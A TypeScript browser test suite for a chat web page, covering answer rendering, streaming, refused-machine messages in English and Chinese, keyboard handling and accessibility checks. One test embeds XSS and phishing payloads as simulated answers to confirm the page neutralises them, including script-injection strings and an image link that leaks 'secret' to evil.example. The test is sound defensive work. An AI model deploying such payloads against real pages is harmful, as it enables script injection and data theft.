/** The chat page over a made-up machine: what an answer may do to it, and who can use it at which size. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { AxeBuilder } from "@axe-core/playwright";
import type { Browser, Page } from "playwright-core";
import { build } from "vite";
import { afterAll, afterEach, beforeAll, expect, it } from "vitest";
import type { Play } from "../app/test/made-up-page.ts";
import { DESKTOP, launch, PHONE, type Visit, visit } from "./browser.ts";

const CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; connect-src 'self'; font-src 'self'; " +
  "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'";
const PAGE =
  '<!doctype html><html lang="en"><meta charset="utf-8"><title>mitai</title><meta name="viewport" content="width=device-width"><script type="module" src="/page.js"></script>';
const ANSWER = `Some **words** and \`code\`.\n\n- a list\n\n\`\`\`python\n${"x = 1 # a long line ".repeat(12)}\n\`\`\`\n\n| a | b |\n| - | - |\n| 1 | 2 |\n`;
const HERE: Play = { pinned: "this" };

let browser: Browser;
let server: Server;
let here: Visit;

beforeAll(async () => {
  browser = await launch();
  const script = await bundled();
  server = createServer((request, response) => {
    const isScript = request.url === "/page.js";
    const type = isScript ? "text/javascript" : "text/html";
    response.writeHead(200, { "content-type": type, "content-security-policy": CSP }).end(isScript ? script : PAGE);
  });
  await new Promise<void>((resolve) => server.listen(0, "localhost", resolve));
});
afterAll(async () => {
  await browser?.close();
  server?.closeAllConnections();
  server?.close();
});
afterEach(async () => {
  await here.context.close();
  expect(here.errors).toEqual([]);
  expect(here.strangers).toEqual([]);
});

async function bundled(): Promise<string> {
  const output = await build({
    configFile: false,
    logLevel: "silent",
    define: { "process.env.NODE_ENV": '"production"' },
    esbuild: { target: "es2022" },
    build: {
      write: false,
      target: "es2022",
      lib: { entry: join(import.meta.dirname, "../app/test/made-up-page.ts"), formats: ["es"] },
    },
  });
  const [chunk] = [output].flat().flatMap((result) => ("output" in result ? result.output : []));
  if (chunk?.type !== "chunk") throw new Error("the page was not built");
  return chunk.code;
}

async function arrive(play: Play, options: Parameters<typeof visit>[2] = {}): Promise<Page> {
  const { port } = server.address() as AddressInfo;
  here = await visit(browser, `http://localhost:${port}/#play=${encodeURIComponent(JSON.stringify(play))}`, options);
  return here.page;
}

const played = (page: Page) => page.locator("html[data-played]").waitFor();

it("shows an answer that attacks the page as text and harmless elements", async () => {
  const attacks = [
    '<img src="https://evil.example/a.png" onerror="alert(1)">',
    "![pixel](https://evil.example/b.png?q=secret)",
    "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [good](https://good.example/)",
    "<script>alert(1)</script><svg onload=alert(1)><iframe src=https://evil.example></iframe>",
    '<a href="https://x.example" onclick="alert(1)" style="position:fixed">a</a><style>*{display:none}</style>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><input name=q><button>Log in</button></form>',
    "[a]: https://evil.example/c.png\n![a]",
    "```html\n<img src=https://evil.example/d.png>\n```",
    `<b id="heading" class="note" title="x">bold</b>`,
  ];
  const page = await arrive({ ...HERE, ask: "Attack me", pieces: attacks.map((attack) => `${attack}\n\n`) });
  page.on("dialog", () => here.errors.push("a dialog was opened"));
  await played(page);
  const found = await page.locator("markdown-view").evaluate((view) => {
    const inside = [...(view.shadowRoot?.querySelectorAll(".block *") ?? [])];
    return {
      names: [...new Set(inside.map(({ localName }) => localName))],
      attributes: [...new Set(inside.flatMap((element) => element.getAttributeNames()))],
      links: inside.flatMap((element) => element.getAttribute("href") ?? []),
      rel: [...new Set(inside.flatMap((element) => element.getAttribute("rel") ?? []))],
    };
  });
  for (const name of found.names) expect(["p", "a", "blockquote", "br", "pre", "code"]).toContain(name);
  expect(found.attributes.sort()).toEqual(["href", "rel", "target", "title"]);
  expect(found.links.every((link) => link.startsWith("https://"))).toBe(true);
  expect(found.links).toContain("https://good.example/");
  expect(found.rel).toEqual(["noopener noreferrer nofollow"]);
  expect(await page.getByText('<img src="https://evil.example/a.png" onerror="alert(1)">').count()).toBe(1);
});

it("leaves what was shown as it is while an answer grows", async () => {
  const page = await arrive({ ...HERE, ask: "Go", pieces: ["first\n\n", "second ", "and ", "more"], delayMs: 150 });
  const first = page.locator("markdown-view p").first();
  await first.waitFor();
  await first.evaluate((element) => element.toggleAttribute("data-seen"));
  await played(page);
  await expect.poll(() => page.locator("markdown-view p").last().innerText()).toBe("second and more");
  expect(await page.locator("markdown-view p[data-seen]").count()).toBe(1);
});

it("sends nothing to a machine that is refused, and says why in both languages", async () => {
  const play: Play = { ...HERE, refused: "attest.measurement-mismatch" };
  const page = await arrive(play);
  await page.getByText("Another program runs there.").waitFor();
  expect(await page.getByRole("textbox", { name: "Message" }).isDisabled()).toBe(true);
  expect(await page.getByRole("button", { name: "Send" }).isDisabled()).toBe(true);
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByRole("button", { name: "简体中文" }).click();
  await page.keyboard.press("Escape");
  await page.getByText("那里运行的是另一个程序。").waitFor();
  await page.getByRole("button", { name: "验证状态：已拒绝" }).waitFor();
});

it("works by keyboard, and leaves Enter to input methods", async () => {
  const page = await arrive({ ...HERE, pieces: ["slow ", "answer"], delayMs: 400 });
  await played(page);
  const field = page.getByRole("textbox", { name: "Message" });
  await expect.poll(() => field.evaluate((element) => element.matches(":focus"))).toBe(true);
  await page.keyboard.type("ni hao");
  await field.dispatchEvent("keydown", { key: "Enter", isComposing: true });
  expect(await field.inputValue()).toBe("ni hao");
  await page.keyboard.press("Shift+Enter");
  expect(await field.inputValue()).toBe("ni hao\n");
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: "Stop" }).waitFor();
  await page.keyboard.press("Escape");
  await page.getByText("You stopped this answer.").waitFor();
  await page.keyboard.press("Control+k");
  await page.getByText("Ask in private").waitFor();
  const settings = page.getByRole("button", { name: "Settings" });
  await settings.focus();
  await page.keyboard.press("Enter");
  await page.getByRole("dialog", { name: "Settings" }).waitFor();
  await page.keyboard.press("Escape");
  await expect.poll(() => settings.evaluate((element) => element.matches(":focus"))).toBe(true);
});

const VIEWS: Readonly<Record<string, readonly [Play, ((page: Page) => Promise<void>)?]>> = {
  question: [{}],
  changed: [{ pinned: "other" }],
  welcome: [{ ...HERE, simulated: true }],
  chat: [{ ...HERE, ask: "Explain the digest", pieces: [ANSWER] }],
  refused: [{ ...HERE, refused: "attest.measurement-mismatch" }],
  checks: [{ ...HERE, simulated: true }, (page) => page.locator("status-badge button").click()],
  answer: [{ ...HERE, ask: "Explain the digest" }, (page) => page.locator(".proof").click()],
  settings: [HERE, (page) => page.locator("header > button").last().click()],
};

for (const [name, [play, act]] of Object.entries(VIEWS)) {
  for (const [size, viewport] of Object.entries({
    phone: PHONE,
    small: { width: 320, height: 640 },
    desktop: DESKTOP,
  })) {
    const dark = size === "phone";
    it(`${name}, ${size}: nothing is clipped, and axe finds nothing`, async () => {
      const locale = dark ? "zh-CN" : "en-GB";
      const page = await arrive(play, { viewport, locale, colorScheme: dark ? "dark" : "light" });
      await page.emulateMedia({ reducedMotion: "reduce" });
      await played(page);
      await act?.(page);
      await page.waitForTimeout(300); // a sheet slides in
      expect(await clipped(page)).toEqual([]);
      const { violations } = await new AxeBuilder({ page }).analyze();
      expect(violations.map(({ id, nodes }) => [id, nodes.map(({ target }) => target)])).toEqual([]);
    });
  }
}

/** What is wider than the page, and buttons whose words do not fit. */
async function clipped(page: Page): Promise<string[]> {
  return await page.evaluate(() => {
    const found: string[] = [];
    const look = (root: ParentNode) => {
      for (const element of root.querySelectorAll<HTMLElement>("*")) {
        if (element.shadowRoot) look(element.shadowRoot);
        const { left, right, width } = element.getBoundingClientRect();
        const scrolled = element.closest("pre, .scroll, .block") !== null;
        const shown = width > 1 && getComputedStyle(element).visibility === "visible";
        if (shown && !scrolled && (right > innerWidth + 1 || left < -1))
          found.push(`${element.localName}.${element.className}`);
        if (element.localName === "button" && element.scrollWidth > element.clientWidth + 1)
          found.push(element.innerText);
      }
    };
    look(document);
    return found.slice(0, 5);
  });
}
